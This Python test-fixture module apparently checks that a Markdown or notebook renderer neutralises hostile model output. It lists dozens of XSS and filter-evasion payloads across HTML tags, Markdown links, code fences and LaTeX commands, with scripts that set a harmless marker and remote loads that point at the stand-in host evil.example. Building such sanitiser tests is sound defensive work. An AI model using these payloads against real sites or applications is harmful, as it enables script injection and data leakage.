r"""What a hostile model could write: texts that would run a script or fetch something, were they let.

A script that runs sets `__hacked` in the outermost window or opens a dialog; every address that would be fetched
holds the word `evil`. Those of `tests/test_markdown.py` are read as text; the ones here are there for what only
a browser does with them.
Source: https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
"""

from __future__ import annotations

from tests.test_markdown import HOSTILE

RUN = "top.__hacked=1"
BROKEN_IMAGE = f"<img src=/evil.png onerror={RUN}>"

_ELEMENTS = [
    f"<script>{RUN}</script>",
    f"<script src=https://evil.example/a.js></script><script type=module>{RUN}</script>",
    BROKEN_IMAGE,
    f'<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x" onload="{RUN}">',
    "<picture><source srcset=https://evil.example/c.png><img></picture>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'></use><image href=//evil.example/d></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<iframe src='javascript:{RUN}'></iframe>",
    f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    "<frameset><frame src=https://evil.example/></frameset>",
    "<video poster=https://evil.example/v src=/evil.mp4 autoplay></video><audio src=/evil.mp3 autoplay></audio>",
    f"<video><source onerror={RUN}></video>",
    "<style>@import 'https://evil.example/s.css'; .jp-Notebook{background:url(https://evil.example/bg)}</style>",
    "<p style='background:url(https://evil.example/p);position:fixed;inset:0;z-index:9999'>over everything</p>",
    "<link rel=stylesheet href=https://evil.example/l.css><link rel=preload as=image href=/evil-preload>",
    "<link rel=dns-prefetch href=//evil.example><link rel=icon href=/evil.ico>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/><a href=x>relative</a>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src=//evil.example/e>",
    f"<form id=f action=https://evil.example/><input autofocus onfocus={RUN}><button formaction=javascript:{RUN}>x",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<marquee onstart={RUN}>x</marquee><body onload={RUN}>",
    f"<div onpointerenter={RUN} onmouseover={RUN} onclick={RUN}>hover and click</div>",
    f"<input type=image src=/evil-input onerror={RUN}><isindex action=javascript:{RUN}>",
    f"<template><script>{RUN}</script></template><noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<xmp><p title='</xmp><svg onload={RUN}>'></xmp><textarea></textarea><svg onload={RUN}>",
    f"<div contenteditable onbeforeinput={RUN}><custom-element onclick={RUN} is=x>x</custom-element>",
    "<a id=__hacked href=x>clobbered</a><form name=jupyterapp><input name=commands></form>",
    "<img name=body><form id=document><a id=defaultView name=location href=//evil.example>x</a></form>",
    f"`${{{RUN}}}` ${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} <%= {RUN} %>",
]
_LINKS = [
    f"[entities](&#x6A;&#97;vascript&#58;{RUN})",
    f"[colon](javascript&#x3A;{RUN})",
    f"[spaces](<  java\tscript:{RUN}>)",
    f"[a newline](javascript:{RUN}%0A)",
    f"[upper](JAVASCRIPT:{RUN})",
    f"[data](data:text/html,<script>{RUN}</script>)",
    f"<javascript:{RUN}>",
    f"[a definition][hostile]\n\n[hostile]: javascript:{RUN} (title)",
    f'[a title](https://evil.example "x\\" onmouseover=\\"{RUN}")',
    f"[attributes](https://evil.example){{: onmouseover={RUN} style=background:url(//evil.example/a) }}",
    "[of the lab](/lab/api/evil) [protocol](//evil.example) [up](../../evil) [file](file:///evil)",
    "https://evil.example/autolink and <https://evil.example/angled> and www.evil.example and evil@evil.example",
    f"https://evil.example/'onmouseover='{RUN} https://evil.example/\"onmouseover=\"{RUN}",
    "![a chart](https://evil.example/chart.png?what=you+wrote)",
    "![of the lab](/files/evil.png) ![data](data:image/gif;base64,R0lGODlhAQABAAAAACw=) ![x](attachment:evil.png)",
    "[![a badge](https://evil.example/badge.svg)](https://evil.example/)",
    f'![x](https://evil.example/x.png"onload="{RUN})',
    "![a definition][picture]\n\n[picture]: https://evil.example/defined.png",
    f"footnote[^a{BROKEN_IMAGE}] and[^b]\n\n[^b]: {BROKEN_IMAGE} ![x](https://evil.example/foot.png)",
]
_BLOCKS = [
    f'```python" onmouseover="{RUN}\nx\n```',
    f"```{{=html}}\n{BROKEN_IMAGE}\n```",
    f'```mermaid\ngraph TD; a-->b; click a href "javascript:{RUN}"\n```',
    f"```html\n{BROKEN_IMAGE}\n```",
    f"```javascript\n{RUN}\n```",
    f"    {BROKEN_IMAGE}",
    f"| {BROKEN_IMAGE} | a |\n|---|---|\n| ![x](https://evil.example/cell.png) | <script>{RUN}</script> |",
    f"- [ ] {BROKEN_IMAGE}\n- [x] <input onclick={RUN}>",
    f"> {BROKEN_IMAGE}\n>\n> > <script>{RUN}</script>",
    f"Term\n: {BROKEN_IMAGE}\n\n!!! note\n    {BROKEN_IMAGE}",
]
_MATHEMATICS = [
    rf"$\href{{javascript:{RUN}}}{{x}}$ and $$\href{{javascript:{RUN}}}{{y}}$$",
    rf"\[\href{{javascript:{RUN}}}{{z}}\] and \(\url{{javascript:{RUN}}}\)",
    rf"\begin{{align}}\href{{javascript:{RUN}}}{{x}}\end{{align}}",
    rf"$\hr<!-- -->ef{{javascript:{RUN}}}{{x}}$ and $\hr&#101;f{{javascript:{RUN}}}{{x}}$",
    rf"$\hr*e*f{{javascript:{RUN}}}{{x}}$ and $x **b** \href{{javascript:{RUN}}}{{x}}$",
    rf"`$`\href{{javascript:{RUN}}}{{x}}`$` and **$**\href{{javascript:{RUN}}}{{x}}**$**",
    r"$\require{html}\class{x}{\cssId{jupyterapp}{\style{background:url(//evil.example/m)}{x}}}$",
    r"$\includegraphics{https://evil.example/tex.png}$ and $$\unicode[url(//evil.example/font)]{x41}$$",
    rf"$\def\frac{{\href{{javascript:{RUN}}}{{x}}}}$ $\newcommand{{\sqrt}}{{evil}}$ and then $\frac12 \sqrt2$",
    r"$\color{red;background:url(//evil.example/c)}{x} \colorbox{url(//evil.example/cb)}{y}$",
    r"$\definecolor{e}{named}{url(//evil.example/n)}\textcolor{e}{x} \enclose{box}[mathbackground=url(//evil.example/e)]{x}$",
    rf"$\text{{{BROKEN_IMAGE}}}$ and $$\mbox{{<script>{RUN}</script>}}$$",
    rf"$\data{{onclick={RUN}}}{{x}} \tooltip{{x}}{{{BROKEN_IMAGE}}} \html{{{BROKEN_IMAGE}}}$",
    r"$\label{evil}\tag{1}x$ and $\eqref{evil}$ and $\verb|\href{javascript:1}|$",
    rf"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'><mtext>x</mtext></maction></math>",
]


def _closed(snippet: str) -> str:
    """Without an end, a script would swallow the snippets after it, as GitHub's Markdown has it."""
    is_open = "<script" in snippet and "</script" not in snippet
    return f"{snippet}\n</script>" if is_open else snippet


SNIPPETS = [*HOSTILE, *_ELEMENTS, *_LINKS, *_BLOCKS, *_MATHEMATICS]
REPLY = (
    "\n\n".join(f"### {number}\n\n{_closed(snippet)}" for number, snippet in enumerate(SNIPPETS)) + "\n\n### the end\n"
)


def framed(url: str) -> str:
    """A hostile page for `--as html`; `url` is one more address that it would connect to."""
    hints = (
        f"<link rel=preconnect href={url}><link rel=prefetch href={url}/evil><link rel=modulepreload href={url}/evil>"
    )
    ran = "<script>document.documentElement.dataset.ran = 1</script><svg onload='document.body.dataset.ran = 1'></svg>"
    return f"```html\n{hints}{ran}\n{chr(10).join(_ELEMENTS)}\n```"
